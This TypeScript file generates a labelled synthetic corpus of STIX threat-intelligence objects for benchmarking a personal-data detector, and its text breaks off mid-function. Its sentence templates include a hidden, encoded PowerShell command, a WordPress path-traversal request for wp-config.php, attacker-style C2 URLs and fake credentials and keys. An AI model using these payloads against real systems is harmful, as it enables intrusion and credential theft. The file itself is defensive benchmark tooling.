import type { CountryCode } from 'libphonenumber-js/max';
import { parsePhoneNumberFromString } from 'libphonenumber-js/max';
import type { DetectorId, StixObject } from '../types';
import {
  ACTOR_DOMAINS,
  CITIES,
  CORPORATE_DOMAINS,
  FREE_MAIL_DOMAINS,
  GIVEN_NAMES,
  MALWARE,
  PRODUCTS,
  SECTORS,
  STREET_NAMES,
  STREET_SUFFIXES,
  SURNAMES,
  SYSTEM_FILES,
  TECHNIQUES,
  THREAT_ACTORS,
} from './pools';
import { Prng } from './prng';

/**
 * A labelled synthetic corpus for the quality benchmark (bench/pii-quality.ts): STIX objects with
 * personal data planted at known paths, and hard negatives — threat names, ATT&CK text, indicators
 * that look like personal data but are the threat (phishing senders and malicious URLs the pattern
 * names), hashes, CVE ids, system paths. Deterministic: the same seed gives the same corpus.
 *
 * Ground truth comes from construction, not from the detectors: values are generated to be valid
 * (Luhn, mod-97, SSA ranges, libphonenumber-valid numbers), and names come from pools of which half
 * lie outside the detector's lexicon.
 */

/** What was planted: a detector's kind, or an account identifier the field rules hold for review. */
export type PlantedKind = DetectorId | 'account-identifier';

export interface CorpusLabel {
  readonly objectId: string;
  /** JSON path as `HeldField.path` writes it. */
  readonly path: string;
  readonly kind: PlantedKind;
}

export interface CorpusBundle {
  readonly set: 'planted' | 'hard-negative';
  readonly objects: StixObject[];
  /** Fields that hold personal data (ground truth). Every other field holds none. */
  readonly labels: CorpusLabel[];
  /** What the STIX pattern parser would return for the bundle's indicators. */
  readonly patternValues: string[];
  readonly patternValuesByIndicator: Readonly<Record<string, readonly string[]>>;
  /** Objects that are nuisance indicators (§2.3.2.3). */
  readonly nuisanceIds: string[];
}

export interface GenerateCorpusOptions {
  readonly seed: number;
  /** Bundles of each set (planted and hard-negative). */
  readonly bundles: number;
}

export interface LabelledCorpus {
  readonly seed: number;
  readonly bundles: readonly CorpusBundle[];
}

const BASE_TIME = Date.UTC(2024, 0, 1);

interface Person {
  readonly first: string;
  readonly last: string;
  readonly full: string;
  readonly login: string;
}

/** Lower-case ASCII letters, digits and dots only: `Łukasz Ó Súilleabháin` → `lukasz.osuilleabhain`. */
function asciiLogin(text: string): string {
  let out = '';
  const folded = text.normalize('NFD').toLowerCase();
  for (let i = 0; i < folded.length; i += 1) {
    const ch = folded.charAt(i);
    const code = folded.charCodeAt(i);
    if ((code >= 97 && code <= 122) || (code >= 48 && code <= 57) || ch === '.') {
      out += ch;
    } else if (ch === 'ł') {
      out += 'l';
    } else if (ch === 'ø') {
      out += 'o';
    } else if (ch === 'ı') {
      out += 'i';
    }
  }
  return out;
}

function mod97(digits: string): number {
  let remainder = 0;
  for (let i = 0; i < digits.length; i += 1) {
    remainder = (remainder * 10 + (digits.charCodeAt(i) - 48)) % 97;
  }
  return remainder;
}

function ibanDigits(text: string): string {
  let out = '';
  for (let i = 0; i < text.length; i += 1) {
    const code = text.charCodeAt(i);
    out += code >= 65 && code <= 90 ? String(code - 55) : text.charAt(i);
  }
  return out;
}

function luhnComplete(partial: string): string {
  let sum = 0;
  let double = true;
  for (let i = partial.length - 1; i >= 0; i -= 1) {
    let value = partial.charCodeAt(i) - 48;
    if (double) {
      value *= 2;
      if (value > 9) {
        value -= 9;
      }
    }
    sum += value;
    double = !double;
  }
  return partial + String((10 - (sum % 10)) % 10);
}

const PHONE_SHAPES: readonly { readonly country: CountryCode; readonly prefixes: readonly string[]; readonly length: number }[] = [
  { country: 'US', prefixes: ['202', '212', '312', '415', '512', '617', '646', '703', '713', '206', '303', '404', '305', '614'], length: 10 },
  { country: 'GB', prefixes: ['20', '161', '121', '113', '7700', '7911', '7400'], length: 10 },
  { country: 'DE', prefixes: ['30', '40', '89', '151', '160', '170'], length: 10 },
  { country: 'FR', prefixes: ['1', '6', '7'], length: 9 },
  { country: 'IN', prefixes: ['98', '99', '90', '70'], length: 10 },
  { country: 'AU', prefixes: ['2', '3', '4'], length: 9 },
];

class Generator {
  constructor(private readonly rng: Prng) {}

  id(type: string): string {
    return `${type}--${this.rng.uuid()}`;
  }

  time(offsetHours = 0): string {
    return new Date(BASE_TIME + (this.rng.int(0, 8000) + offsetHours) * 3600_000).toISOString();
  }

  person(): Person {
    const first = this.rng.pick(GIVEN_NAMES);
    const last = this.rng.pick(SURNAMES);
    const middle = this.rng.chance(0.1) ? ` ${String.fromCharCode(65 + this.rng.int(0, 25))}.` : '';
    const a = asciiLogin(first);
    const b = asciiLogin(last);
    const login = this.rng.pick([`${a}.${b}`, `${a.charAt(0)}${b}`, `${a}${b.charAt(0)}`, `${a}_${b}`, `${b}.${a.charAt(0)}`]);
    return { first, last, full: `${first}${middle} ${last}`, login };
  }

  email(person: Person, personal = this.rng.chance(0.3)): string {
    const domain = personal ? this.rng.pick(FREE_MAIL_DOMAINS) : this.rng.pick(CORPORATE_DOMAINS);
    const suffix = personal && this.rng.chance(0.5) ? String(this.rng.int(1, 99)) : '';
    return `${person.login}${suffix}@${domain}`;
  }

  defang(email: string): string {
    return this.rng.chance(0.15) ? email.replace('@', '[@]').split('.').join('[.]') : email;
  }

  phone(): string {
    for (;;) {
      const shape = this.rng.pick(PHONE_SHAPES);
      const prefix = this.rng.pick(shape.prefixes);
      const national = prefix + this.rng.digits(shape.length - prefix.length);
      const parsed = parsePhoneNumberFromString(national, shape.country);
      if (parsed === undefined || !parsed.isValid()) {
        continue;
      }
      if (shape.country === 'US') {
        const d = national;
        return this.rng.pick([
          `(${d.slice(0, 3)}) ${d.slice(3, 6)}-${d.slice(6)}`,
          `${d.slice(0, 3)}-${d.slice(3, 6)}-${d.slice(6)}`,
          `${d.slice(0, 3)}.${d.slice(3, 6)}.${d.slice(6)}`,
          `+1 ${d.slice(0, 3)} ${d.slice(3, 6)} ${d.slice(6)}`,
          `+1-${d.slice(0, 3)}-${d.slice(3, 6)}-${d.slice(6)}`,
        ]);
      }
      return parsed.formatInternational();
    }
  }

  ssn(): { text: string; bare: boolean } {
    let area = this.rng.int(1, 899);
    if (area === 666) {
      area = 667;
    }
    const digits = `${String(area).padStart(3, '0')}${String(this.rng.int(1, 99)).padStart(2, '0')}${String(this.rng.int(1, 9999)).padStart(4, '0')}`;
    const style = this.rng.int(0, 9);
    if (style < 8) {
      return { text: `${digits.slice(0, 3)}-${digits.slice(3, 5)}-${digits.slice(5)}`, bare: false };
    }
    if (style < 9) {
      return { text: `${digits.slice(0, 3)} ${digits.slice(3, 5)} ${digits.slice(5)}`, bare: false };
    }
    return { text: digits, bare: true };
  }

  card(): string {
    const scheme = this.rng.int(0, 3);
    if (scheme === 2) {
      const pan = luhnComplete(this.rng.pick(['34', '37']) + this.rng.digits(12));
      return this.rng.chance(0.6) ? `${pan.slice(0, 4)} ${pan.slice(4, 10)} ${pan.slice(10)}` : pan;
    }
    const prefix = scheme === 0 ? '4' : scheme === 1 ? String(this.rng.int(51, 55)) : '6011';
    const pan = luhnComplete(prefix + this.rng.digits(15 - prefix.length));
    const separator = this.rng.pick([' ', '-', '']);
    return separator === '' ? pan : [pan.slice(0, 4), pan.slice(4, 8), pan.slice(8, 12), pan.slice(12)].join(separator);
  }

  iban(): string {
    const country = this.rng.pick(['DE', 'GB', 'FR', 'NL', 'ES', 'IT', 'BE', 'CH']);
    const letters = (n: number): string => {
      let out = '';
      for (let i = 0; i < n; i += 1) {
        out += String.fromCharCode(65 + this.rng.int(0, 25));
      }
      return out;
    };
    const bban: Record<string, () => string> = {
      DE: () => this.rng.digits(18),
      GB: () => letters(4) + this.rng.digits(14),
      FR: () => this.rng.digits(23),
      NL: () => letters(4) + this.rng.digits(10),
      ES: () => this.rng.digits(20),
      IT: () => letters(1) + this.rng.digits(22),
      BE: () => this.rng.digits(12),
      CH: () => this.rng.digits(17),
    };
    const body = (bban[country] ?? (() => this.rng.digits(18)))();
    const check = 98 - mod97(ibanDigits(`${body}${country}00`));
    const compact = `${country}${String(check).padStart(2, '0')}${body}`;
    if (!this.rng.chance(0.6)) {
      return compact;
    }
    const groups: string[] = [];
    for (let i = 0; i < compact.length; i += 4) {
      groups.push(compact.slice(i, i + 4));
    }
    return groups.join(' ');
  }

  routing(): string {
    const eight = this.rng.pick(['0', '1', '2', '3']) + this.rng.digits(7);
    const weights = [3, 7, 1, 3, 7, 1, 3, 7];
    let sum = 0;
    for (let i = 0; i < 8; i += 1) {
      sum += (eight.charCodeAt(i) - 48) * (weights[i] ?? 0);
    }
    return eight + String((10 - (sum % 10)) % 10);
  }

  address(): string {
    const number = String(this.rng.int(1, 9999)) + (this.rng.chance(0.05) ? 'B' : '');
    const direction = this.rng.chance(0.2) ? `${this.rng.pick(['N', 'S', 'E', 'W'])} ` : '';
    const street = this.rng.chance(0.15) ? `${this.rng.int(2, 99)}th` : this.rng.pick(STREET_NAMES);
    const base = `${number} ${direction}${street} ${this.rng.pick(STREET_SUFFIXES)}`;
    return this.rng.chance(0.5) ? `${base}, ${this.rng.pick(CITIES)}` : base;
  }

  hash(length = 64): string {
    return this.rng.hex(length);
  }

  actorIp(): string {
    return `${this.rng.pick(['45', '91', '185', '193', '194', '146', '23', '104', '5', '37'])}.${this.rng.int(1, 254)}.${this.rng.int(0, 255)}.${this.rng.int(1, 254)}`;
  }

  actorEmail(): string {
    return `${this.rng.pick(['billing', 'hr-update', 'payroll', 'it-support', 'noreply-docs', 'invoice', 'secure', 'alerts'])}${this.rng.int(1, 999)}@${this.rng.pick(ACTOR_DOMAINS)}`;
  }

  actorUrl(): string {
    const domain = this.rng.pick(ACTOR_DOMAINS);
    const path = this.rng.pick(['/gate.php', '/wp-content/plugins/x/load.php', '/invoice/view', '/owa/auth/login.aspx', '/download/setup.msi', '/api/v2/collect']);
    const query = this.rng.pick(['', `?id=${this.rng.int(1000, 99999)}`, `?campaign=q${this.rng.int(1, 4)}&id=${this.rng.int(100, 9999)}`, `?user=bot-${this.rng.int(100, 9999)}&os=win10`, `?ref=${this.rng.hex(12)}`]);
    return `https://${domain}${path}${query}`;
  }

  secret(): string {
    return this.rng.pick(['Summer2024!', 'Welcome123#', 'P@ssw0rd2023', 'Tr0ub4dor3x', 'Qwerty!9876', 'Spring#2025x', 'Chang3M3N0w!']) + String(this.rng.int(1, 99));
  }

  base64url(length: number): string {
    const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
    let out = '';
    for (let i = 0; i < length; i += 1) {
      out += alphabet.charAt(this.rng.int(0, 63));
    }
    return out;
  }

  jwt(): string {
    return `eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJ${this.base64url(60)}.${this.base64url(43)}`;
  }

  awsKey(): string {
    let out = 'AKIA';
    const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567';
    for (let i = 0; i < 16; i += 1) {
      out += alphabet.charAt(this.rng.int(0, alphabet.length - 1));
    }
    return out;
  }

  // --- sentences -------------------------------------------------------------------------------

  /** A 16-digit number that fails the Luhn check. */
  luhnFailing(): string {
    const valid = luhnComplete(`4${this.rng.digits(14)}`);
    const last = (valid.charCodeAt(15) - 48 + this.rng.int(1, 9)) % 10;
    return valid.slice(0, 15) + String(last);
  }

  /** An IBAN with a wrong checksum. */
  ibanFailing(): string {
    const valid = this.iban().split(' ').join('');
    const check = Number(valid.slice(2, 4));
    const wrong = String(((check + this.rng.int(1, 50)) % 97) + 2).padStart(2, '0');
    return valid.slice(0, 2) + wrong + valid.slice(4);
  }

  /**
   * Sentences that look like personal data and are not: cue words before product names, numbers
   * shaped like phones, cards and SSNs that fail validation, role mailboxes, system profile paths,
   * URL parameters without personal values, actor-side numbers.
   */
  trapSentence(actor: { domain: string; ip: string }): string {
    const product = this.rng.pick(PRODUCTS);
    const corp = this.rng.pick(CORPORATE_DOMAINS);
    return this.rng.pick<() => string>([
      () => `Contact Microsoft Support if the ${product} patch fails.`,
      () => `Per CISA guidance, apply the ${product} update within 48 hours.`,
      () => `Hi Team, the ${this.rng.pick(MALWARE)} loader is back. Regards, SOC Team`,
      () => `From: IT Service Desk <servicedesk@${corp}>`,
      () => `User Account Control (UAC) bypass via fodhelper.exe; the User Execution step relied on a Malicious File.`,
      () => `Analyst Note: ${this.rng.pick(THREAT_ACTORS)} reused infrastructure.`,
      () => `Reported by Mandiant Threat Intelligence and Recorded Future.`,
      () => `Victim: Healthcare Provider in Ohio. To: All Staff.`,
      () => `A Mr. Robot themed lure and Dr.Web detections were noted.`,
      () => `Grafana Loki and Apache Kafka logs show the exfiltration.`,
      () => `Jenkins Script Console abuse (CVE-2024-23897) preceded the intrusion.`,
      () => `Tools: Rclone, WinSCP, AnyDesk, Ngrok and Chisel.`,
      () => `John the Ripper and Hashcat cracked the NTLM hashes.`,
      () => `The Ave Maria RAT (Warzone) and Agent Tesla were dropped.`,
      () => `Kaseya VSA, SolarWinds Orion and Ivanti Sentry remain targets.`,
      () => `KB5034441 and build 10.0.22621.${this.rng.int(1000, 3999)} fix the flaw; change ticket 2024-${this.rng.int(1000, 9999)}-11 applied.`,
      () => `MAC 00:1A:2B:${this.rng.int(10, 99)}:4D:5E, GUID {3F2504E0-4F89-11D3-9A0C-0305E82C${this.rng.int(1000, 9999)}}.`,
      () => `Snort SID ${this.rng.int(2000000, 2999999)} rev 7 and Suricata ${this.rng.int(2000000, 2999999)} cover it.`,
      () => `The test card ${this.luhnFailing()} in the kit fails the Luhn check.`,
      () => `The phishing form used the placeholder SSN 078-05-1120 and 123-45-6789.`,
      () => `Reference ${this.ibanFailing()} in the lure has an invalid checksum.`,
      () => `The repository was cloned from git@github.com:${this.rng.pick(['apt-tools', 'redteam-kit', 'loaderdev'])}/loader.git.`,
      () => `Image logo@2x.png was reused from the brand kit.`,
      () => `/home/ubuntu/.ssh/authorized_keys, C:\\Users\\Public\\Documents and C:\\Users\\Administrator\\Desktop were modified.`,
      () => `Download link hxxps://${actor.domain}/dl.php?name=invoice_${this.rng.int(100, 999)}.pdf&id=${this.rng.int(1000, 9999)}.`,
      () => `Search traffic to https://www.bing.com/search?q=powershell+download&form=QBLH was observed.`,
      () => `Newsletter links carried ?utm_source=newsletter&utm_campaign=q${this.rng.int(1, 4)}.`,
      () => `Account lockout threshold 10; RID 500 is the built-in Administrator account.`,
      () => `The operator's Telegram handle @${this.rng.pick(['darkcoder', 'x0rbyte', 'loaderseller'])} advertised the kit.`,
      () => `Timestamps 1700000000 to 1700086400 (epoch seconds) cover the activity; port 5060 was scanned.`,
      () => `Callback phishing directed victims to the fake support line +1 888 ${this.rng.int(200, 999)} ${this.rng.int(1000, 9999)}.`,
      () => `The bucket belonged to AWS account ${this.rng.digits(12)} controlled by the actor.`,
      () => `Version 4.2.1-1ubuntu2 of the package and OpenSSL 3.0.13 were vulnerable.`,
      () => `The ${this.rng.pick(THREAT_ACTORS)} playbook references Operation Aurora and Operation Ghost.`,
      () => `Dear Customer, your mailbox is full. Thanks, Microsoft 365 Team`,
      () => `The sample queries HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon for DefaultUserName.`,
      () => `Attackers sprayed passwords against ${this.rng.int(200, 5000)} accounts from ${actor.ip}.`,
      // Genuinely ambiguous: actor-side, yet indistinguishable from victim data without a reviewer.
      () => `The actor posed as recruiter ${this.person().full} on LinkedIn.`,
      () => `Vishing calls came from ${this.phone()}, a number the actor controls.`,
      () => `Hosting in ${this.rng.pick(['Santa Cruz and Fort Collins', 'Port Elizabeth', 'Lake Tahoe', 'Glen Burnie', 'Chris Church Road'])} was abused.`,
    ])();
  }

  /** Threat-side prose: the hard negatives and the filler around planted values. */
  ctiSentence(actor: { email?: string; url?: string; domain: string; ip: string }): string {
    if (this.rng.chance(0.4)) {
      return this.trapSentence(actor);
    }
    const [tid, technique] = this.rng.pick(TECHNIQUES);
    const malware = this.rng.pick(MALWARE);
    const threat = this.rng.pick(THREAT_ACTORS);
    const choices: (() => string)[] = [
      () => `${malware} was delivered via ${technique} (${tid}).`,
      () => `${threat} has used ${malware} against ${this.rng.pick(SECTORS)} targets since 20${this.rng.int(15, 24)}.`,
      () => `C2 traffic to ${actor.domain} over port 443 every ${this.rng.int(30, 300)} seconds.`,
      () => `The loader drops ${this.rng.pick(SYSTEM_FILES)} and persists via ${this.rng.pick(TECHNIQUES)[1]}.`,
      () => `Exploitation of CVE-20${this.rng.int(17, 25)}-${this.rng.int(1000, 49999)} in ${this.rng.pick(PRODUCTS)} was observed.`,
      () => `SHA256 ${this.hash()} matches the ${malware} sample.`,
      () => `Beacon configuration: sleep ${this.rng.int(1, 90) * 1000} ms, jitter ${this.rng.int(5, 50)}%, watermark ${this.rng.int(100000000, 1999999999)}.`,
      () => `Event ID 4624 logon type 10 from ${actor.ip} at 0${this.rng.int(0, 9)}:${this.rng.int(10, 59)} UTC.`,
      () => `The actor used Mimikatz and ${this.rng.pick(['Rubeus', 'AdFind', 'BloodHound', 'PsExec', 'Impacket'])} to move laterally (${tid}).`,
      () => `Blocked ${this.rng.int(2, 900)} connections to ${actor.ip}:${this.rng.pick(['4444', '8080', '443', '8443'])} from ${this.rng.int(2, 40)} hosts.`,
      () => `Build 10.0.19041.${this.rng.int(1, 4000)} of the implant used the user agent Mozilla/5.0 (Windows NT 10.0; Win64; x64).`,
      () => `Registry key HKEY_USERS\\S-1-5-21-${this.rng.int(1000000000, 3999999999)}-${this.rng.int(1000000000, 3999999999)}-${this.rng.int(100000000, 999999999)}-${this.rng.int(1000, 9999)}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\${this.rng.pick(['OneDriveSync', 'msupdate', 'SecurityHealth'])} was created.`,
      () => `${threat} operators used MFA fatigue (T1621) against help-desk staff.`,
      () => `Contact your account representative if you observe traffic to ${actor.domain}.`,
      () => `Reported by the ${this.rng.pick(['Financial Services', 'Health', 'Multi-State', 'Electricity'])} ISAC.`,
      () => `Wizard Spider deployed Ryuk after TrickBot infections; Dr.Web detects the dropper as Trojan.Win32.Agent.`,
      () => `The operators, tracked as ${threat}, targeted ${this.rng.pick(PRODUCTS)} servers.`,
      () => `Mitigation: reset passwords for affected accounts and enforce phishing-resistant MFA.`,
      () => `Sample size ${this.rng.int(20000, 900000)} bytes, compiled 2023-0${this.rng.int(1, 9)}-1${this.rng.int(0, 9)} 08:12:44.`,
      () => `GET /wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php returned 200.`,
      () => `Kerberoasting (T1558.003) requests for SPN MSSQLSvc/db01.corp.local:1433 were logged.`,
      () => `The ransom note README.txt demands ${this.rng.int(1, 9)}.5 BTC; Windows event 4740 shows account lockouts.`,
      () => `Lazarus Group used fake job offers sent through LinkedIn to deliver ${malware}.`,
      () => `Emails impersonated Microsoft Teams and DocuSign notifications.`,
      () => `The macro runs powershell -nop -w hidden -enc ${this.base64url(48)}.`,
      () => `Scattered Spider called the help desk to reset MFA for privileged accounts.`,
      () => `Signature: YARA rule APT_${threat.split(' ')[0] ?? 'X'}_Loader_${this.rng.int(1, 9)} and Snort SID ${this.rng.int(2000000, 2999999)}.`,
      () => `Traffic to ${actor.ip} resolved from ${actor.domain}; TTL 300, ASN AS${this.rng.int(1000, 65000)}.`,
      () => `Observed process tree: winword.exe > cmd.exe > ${this.rng.pick(SYSTEM_FILES)}.`,
      () => `The dropper checks %USERPROFILE%\\AppData\\Roaming and C:\\Users\\Public\\Libraries for prior infection.`,
    ];
    if (actor.email !== undefined) {
      const email = actor.email;
      choices.push(() => `Phishing emails from ${email} delivered ${malware}.`);
    }
    if (actor.url !== undefined) {
      const url = actor.url;
      choices.push(() => `The payload was served from ${url}.`);
    }
    return this.rng.pick(choices)();
  }

  nameSentence(person: Person): string {
    const last = person.last;
    const title = this.rng.pick(['Mr.', 'Ms.', 'Dr.', 'Mrs.', 'Prof.']);
    return this.rng.pick([
      () => `Reported by ${person.full}.`,
      () => `Contact ${person.full} for details.`,
      () => `Dear ${person.first}, please review the attached invoice.`,
      () => `${person.full} from the finance team opened the attachment.`,
      () => `The email was sent to ${person.full}, an accounts payable clerk.`,
      () => `Employee ${person.full} reported the phishing attempt.`,
      () => `${title} ${last} forwarded the message to the SOC.`,
      () => `Per ${person.full}, the host was reimaged.`,
      () => `Analyst ${person.full} confirmed the infection.`,
      () => `Regards,\n${person.full}`,
      () => `Victim: ${person.full}`,
      () => `${last}, ${person.first} (HR) received the lure.`,
      () => `Spoke with ${person.full} at the service desk.`,
      () => `The CFO, ${person.full}, was impersonated in the wire request.`,
      () => `${person.full}'s workstation was compromised.`,
    ])();
  }
}

/** One planted value: its kind and a sentence that carries it. */
interface Planted {
  readonly kind: PlantedKind;
  readonly text: string;
}

function plantedSentence(g: Generator, rng: Prng, kind: PlantedKind): Planted {
  const person = g.person();
  switch (kind) {
    case 'email': {
      const email = g.defang(g.email(person));
      return { kind, text: rng.pick([`Phishing email received by ${email}.`, `The user ${email} clicked the link.`, `Forwarded by ${email} to the SOC.`, `Password reset requested for ${email}.`]) };
    }
    case 'phone':
      return { kind, text: rng.pick([`Reporter phone: ${g.phone()}.`, `Call the affected user back on ${g.phone()}.`, `The victim can be reached at ${g.phone()}.`, `Mobile ${g.phone()} received the smishing text.`]) };
    case 'ssn': {
      const ssn = g.ssn();
      return { kind, text: ssn.bare ? `Exfiltrated HR file listed SSN ${ssn.text} for the employee.` : rng.pick([`Exfiltrated HR file contained ${ssn.text}.`, `Employee record (SSN: ${ssn.text}) was in the archive.`, `Tax form with social security number ${ssn.text} was attached.`]) };
    }
    case 'payment-card':
      return { kind, text: rng.pick([`Skimmer captured card ${g.card()}.`, `Fraudulent charge on card number ${g.card()}.`, `The Magecart script sent ${g.card()} to the collector.`]) };
    case 'iban':
      return { kind, text: rng.pick([`Funds were redirected to IBAN ${g.iban()}.`, `The BEC request changed the payee account to ${g.iban()}.`]) };
    case 'bank-account':
      return { kind, text: rng.pick([`The BEC email asked to update account number ${rng.digits(rng.int(8, 12))}.`, `Wire to acct ${rng.digits(10)} at the new bank.`, `New banking details: routing ${g.routing()}, account ${rng.digits(9)}.`]) };
    case 'passport':
      return { kind, text: rng.pick([`The scanned passport number ${rng.digits(9)} was found in the dump.`, `Passport No: ${String.fromCharCode(65 + rng.int(0, 25))}${rng.digits(7)} appeared in the leak.`]) };
    case 'drivers-licence':
      return { kind, text: rng.pick([`Attached driver's license ${String.fromCharCode(65 + rng.int(0, 25))}${rng.digits(7)} belonged to the victim.`, `Driver license number ${rng.digits(9)} was used for account recovery.`]) };
    case 'person-name':
      return { kind, text: g.nameSentence(person) };
    case 'street-address':
      return { kind, text: rng.pick([`The courier lure was addressed to ${g.address()}.`, `Victim residence: ${g.address()}.`, `Shipment redirected to ${g.address()}.`]) };
    case 'username-in-path':
      return {
        kind,
        text: rng.pick([
          `Payload written to C:\\Users\\${person.login}\\AppData\\Local\\Temp\\${rng.pick(['invoice.exe', 'update.dll', 'doc.js'])}.`,
          `History file /home/${person.login}/.bash_history showed the commands.`,
          `Persistence in /Users/${person.login}/Library/LaunchAgents/com.apple.update.plist.`,
          `The lure was saved to C:\\Users\\${person.login}\\Downloads\\${rng.pick(['Invoice_8812.docm', 'scan.iso'])}.`,
        ]),
      };
    case 'url-query-pii': {
      const email = g.email(person);
      return {
        kind,
        text: rng.pick([
          `Victim landed on https://${rng.pick(CORPORATE_DOMAINS)}/sso/reset?email=${encodeURIComponent(email)}&lang=en.`,
          `Click logged: hxxps://track.${rng.pick(ACTOR_DOMAINS)}/o.php?name=${encodeURIComponent(person.first)}+${encodeURIComponent(person.last)}&step=2.`,
          `Redirect chain ended at https://portal.${rng.pick(CORPORATE_DOMAINS)}/login?user=${person.login}.`,
          `Lure link https://${rng.pick(ACTOR_DOMAINS)}/doc/view#${Buffer.from(email).toString('base64')} was opened.`,
          `Form post to https://${rng.pick(ACTOR_DOMAINS)}/submit?acct=${email}&p=1.`,
        ]),
      };
    }
    case 'credential':
      return {
        kind,
        text: rng.pick([
          `Credentials found in the script: password=${g.secret()}`,
          `The config contained api_key=${g.base64url(32)}.`,
          `Captured header Authorization: Bearer ${g.jwt()}`,
          `AWS key ${g.awsKey()} was exposed in the repository.`,
          `-----BEGIN RSA PRIVATE KEY-----\nMIIEow${g.base64url(40)}\n-----END RSA PRIVATE KEY-----`,
          `Login URL https://admin:${g.secret()}@${rng.pick(CORPORATE_DOMAINS)}/manage was in the phishing kit log.`,
          `pwd: ${g.secret()} (reused across VPN and mail).`,
        ]),
      };
    case 'account-identifier':
      return { kind, text: person.login };
    default: {
      const unreachable: never = kind;
      return unreachable;
    }
  }
}

const FREE_TEXT_KINDS: readonly PlantedKind[] = [
  'email', 'phone', 'ssn', 'payment-card', 'iban', 'bank-account', 'passport', 'drivers-licence', 'person-name', 'person-name',
  'person-name', 'street-address', 'username-in-path', 'url-query-pii', 'credential',
];

class BundleBuilder {
  readonly objects: StixObject[] = [];
  readonly labels: CorpusLabel[] = [];
  readonly patternValues: string[] = [];
  readonly byIndicator: Record<string, string[]> = {};
  readonly nuisanceIds: string[] = [];

  add(object: StixObject): StixObject {
    this.objects.push(object);
    return object;
  }

  label(object: StixObject, path: string, kind: PlantedKind): void {
    this.labels.push({ objectId: object.id, path, kind });
  }

  build(set: CorpusBundle['set']): CorpusBundle {
    return { set, objects: this.objects, labels: this.labels, patternValues: this.patternValues, patternValuesByIndicator: this.byIndicator, nuisanceIds: this.nuisanceIds };
  }
}

interface Actor {
  readonly domain: string;
  readonly ip: string;
  readonly email: string;
  readonly url: string;
}

function sdoBase(g: Generator, type: string): StixObject {
  const created = g.time();
  return { type, spec_version: '2.1', id: g.id(type), created, modified: created };
}

/** An indicator whose pattern names the actor's infrastructure; its values are actor-side. */
function addIndicator(g: Generator, rng: Prng, b: BundleBuilder, actor: Actor, description: string | undefined): StixObject {
  const choice = rng.int(0, 4);
  const [pattern, values]: [string, string[]] =
    choice === 0
      ? [`[domain-name:value = '${actor.domain}']`, [actor.domain]]
      : choice === 1
        ? [`[ipv4-addr:value = '${actor.ip}']`, [actor.ip]]
        : choice === 2
          ? [`[email-message:from_ref.value = '${actor.email}']`, [actor.email]]
          : choice === 3
            ? [`[url:value = '${actor.url}']`, [actor.url]]
            : [`[file:hashes.'SHA-256' = '${g.hash()}'] OR [domain-name:value = '${actor.domain}']`, [actor.domain]];
  const indicator = b.add({
    ...sdoBase(g, 'indicator'),
    name: rng.pick([`Indicator for ${values[0] ?? actor.domain}`, `${rng.pick(MALWARE)} C2`, `Phishing infrastructure (${rng.pick(THREAT_ACTORS)})`]),
    indicator_types: [rng.pick(['malicious-activity', 'anomalous-activity', 'attribution', 'compromised'])],
    pattern,
    pattern_type: 'stix',
    valid_from: g.time(),
    ...(description === undefined ? {} : { description }),
    kill_chain_phases: [{ kill_chain_name: 'mitre-attack', phase_name: rng.pick(['initial-access', 'execution', 'command-and-control']) }],
  });
  b.byIndicator[indicator.id] = values;
  b.patternValues.push(...values);
  return indicator;
}

function actorFor(g: Generator, rng: Prng): Actor {
  return { domain: rng.pick(ACTOR_DOMAINS), ip: g.actorIp(), email: g.actorEmail(), url: g.actorUrl() };
}

/**
 * The bundle's lead indicator names the actor's sender address and URL, so prose anywhere in the
 * bundle may quote them: they are actor-side values (what the pattern parser returns).
 */
function addActorIndicator(g: Generator, b: BundleBuilder, actor: Actor): void {
  const indicator = b.add({
    ...sdoBase(g, 'indicator'),
    name: 'Phishing sender and landing page',
    indicator_types: ['malicious-activity'],
    pattern: `[email-message:from_ref.value = '${actor.email}'] OR [url:value = '${actor.url}']`,
    pattern_type: 'stix',
    valid_from: g.time(),
  });
  b.byIndicator[indicator.id] = [actor.email, actor.url];
  b.patternValues.push(actor.email, actor.url);
}

/** Free text mixing threat prose with one planted sentence (or none). */
function text(g: Generator, rng: Prng, actor: Actor, planted: Planted | undefined): string {
  const parts = [g.ctiSentence(actor)];
  if (rng.chance(0.5)) {
    parts.push(g.ctiSentence(actor));
  }
  if (planted !== undefined) {
    parts.splice(rng.int(0, parts.length), 0, planted.text);
  }
  return parts.join(rng.chance(0.2) ? '\n' : ' ');
}

function plantedBundle(g: Generator, rng: Prng): CorpusBundle {
  const b = new BundleBuilder();
  const actor = actorFor(g, rng);
  addActorIndicator(g, b, actor);
  const freeKind = (): PlantedKind => rng.pick(FREE_TEXT_KINDS);
  const scenarios: (() => void)[] = [
    () => {
      const planted = plantedSentence(g, rng, freeKind());
      const indicator = addIndicator(g, rng, b, actor, text(g, rng, actor, planted));
      b.label(indicator, 'description', planted.kind);
    },
    () => {
      const planted = plantedSentence(g, rng, freeKind());
      const analyst = g.person();
      const note = b.add({ ...sdoBase(g, 'note'), content: text(g, rng, actor, planted), authors: [analyst.full], object_refs: [g.id('indicator')] });
      b.label(note, 'content', planted.kind);
      b.label(note, 'authors', 'person-name');
    },
    () => {
      const planted = plantedSentence(g, rng, freeKind());
      const opinion = b.add({ ...sdoBase(g, 'opinion'), opinion: 'agree', explanation: text(g, rng, actor, planted), object_refs: [g.id('indicator')] });
      b.label(opinion, 'explanation', planted.kind);
    },
    () => {
      const person = g.person();
      const identity = b.add({
        ...sdoBase(g, 'identity'),
        name: rng.pick(['Contoso Financial Services', 'Riverside Clinic', 'Acme Water Utility', 'Pinecrest School District']),
        identity_class: 'organization',
        sectors: [rng.pick(SECTORS)],
        contact_information: `${person.full}, ${g.email(person, false)}, ${g.phone()}`,
      });
      b.label(identity, 'contact_information', 'email');
      b.label(identity, 'contact_information', 'phone');
      b.label(identity, 'contact_information', 'person-name');
    },
    () => {
      const person = g.person();
      const identity = b.add({ ...sdoBase(g, 'identity'), name: person.full, identity_class: 'individual', roles: ['analyst'] });
      b.label(identity, 'name', 'person-name');
    },
    () => {
      const victim = g.person();
      const sender = b.add({ type: 'email-addr', spec_version: '2.1', id: g.id('email-addr'), value: actor.email });
